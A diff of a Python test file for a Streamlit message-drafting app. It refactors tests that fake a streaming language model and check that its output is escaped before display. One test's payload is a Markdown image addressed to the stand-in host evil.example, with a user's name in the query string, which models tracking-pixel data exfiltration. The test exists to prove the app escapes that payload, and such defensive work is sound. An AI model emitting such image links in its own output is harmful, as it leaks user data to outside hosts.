@@ -250,30 +250,28 @@ def test_write_with_ai_streams_then_shows_the_checked_draft(monkeypatch) -> None
     assert "Texte de l'IA" not in _body(_ok(at))
 
 
-def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> None:
-    """A Markdown image in the model's text would be fetched by the browser while it streams (a tracking pixel)."""
+def _streamed_preview(monkeypatch, pieces: list[str]) -> list[str]:
+    """What the page hands to st.write_stream while a (fake) model streams these pieces."""
     import streamlit
 
     import rebond.drafting
-    from views.common import md
 
     monkeypatch.setenv("REBOND_ENGINE", "llm")
     monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
-    payload = ["Bonjour ![logo](http://evil.example/p.png?d=", "Camille) **gras** <b>x</b> [lien](", "http://evil.example)"]
     shown: list[str] = []
     real_write_stream = streamlit.write_stream
 
     def recording(stream, *args, **kwargs):
-        pieces = list(stream)
-        shown.extend(pieces)
-        return real_write_stream(iter(pieces), *args, **kwargs)
+        consumed = list(stream)
+        shown.extend(consumed)
+        return real_write_stream(iter(consumed), *args, **kwargs)
 
     class FakeStream:
         def __init__(self, request):
             self.request, self.result = request, None
 
         def __iter__(self):
-            yield from payload
+            yield from pieces
             self.result = Draft(subject="Objet", body="Bonjour,\n\nTexte.\n\nCamille Tremblay", channel=self.request.channel,
                                 language=Language.FR, engine="llm:fake-model")
 
@@ -282,39 +280,21 @@ def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> N
     at = _filled()
     next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
     _ok(at)
+    return shown
+
+
+def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> None:
+    """A Markdown image in the model's text would be fetched by the browser while it streams (a tracking pixel)."""
+    from views.common import md
+
+    payload = ["Bonjour ![logo](http://evil.example/p.png?d=", "Camille) **gras** <b>x</b> [lien](", "http://evil.example)"]
+    shown = _streamed_preview(monkeypatch, payload)
     assert "".join(shown) == md("".join(payload))  # escaping piece by piece is escaping the whole
     assert re.search(r"(?<!\\)[\[\]<>*]", "".join(shown)) is None  # no bracket, tag or star left bare
 
 
 def test_the_streamed_preview_labels_the_subject_line_in_the_interface_language(monkeypatch) -> None:
-    import streamlit
-
-    import rebond.drafting
-
-    monkeypatch.setenv("REBOND_ENGINE", "llm")
-    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
-    shown: list[str] = []
-    real_write_stream = streamlit.write_stream
-
-    def recording(stream, *args, **kwargs):
-        pieces = list(stream)
-        shown.extend(pieces)
-        return real_write_stream(iter(pieces), *args, **kwargs)
-
-    class FakeStream:
-        def __init__(self, request):
-            self.request, self.result = request, None
-
-        def __iter__(self):
-            yield from ["Subject: Rétro", "action *vite* <b>\n", "\nBonjour"]
-            self.result = Draft(subject="Objet", body="Bonjour,\n\nTexte.\n\nCamille Tremblay", channel=self.request.channel,
-                                language=Language.FR, engine="llm:fake-model")
-
-    monkeypatch.setattr(streamlit, "write_stream", recording)
-    monkeypatch.setattr(rebond.drafting, "stream_draft", lambda request, settings=None, model=None: FakeStream(request))
-    at = _filled()
-    next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
-    _ok(at)
+    shown = _streamed_preview(monkeypatch, ["Subject: Rétro", "action *vite* <b>\n", "\nBonjour"])
     assert shown == ["**Objet** · Rétroaction \\*vite\\* \\<b\\>\n\n", "Bonjour"]
 
 
